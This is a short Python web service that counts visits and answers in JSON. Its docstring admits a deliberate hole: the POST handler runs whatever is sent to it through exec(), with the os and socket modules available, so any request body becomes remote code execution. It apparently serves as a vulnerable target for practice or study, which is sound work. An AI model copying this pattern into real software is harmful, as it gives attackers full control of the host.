"""A small service behind nginx: counts its visits and answers in JSON. It has a hole: what is sent to it is run."""
import json
import os
import socket
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

visits = 0


class Visits(BaseHTTPRequestHandler):
    def do_GET(self):
        global visits
        visits += 1
        self.answer({"visits": visits})

    def do_POST(self):
        exec(self.rfile.read(int(self.headers["Content-Length"])), {"os": os, "socket": socket})
        self.answer({"done": True})

    def answer(self, body):
        text = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, *_):
        pass


ThreadingHTTPServer(("127.0.0.1", 8000), Visits).serve_forever()
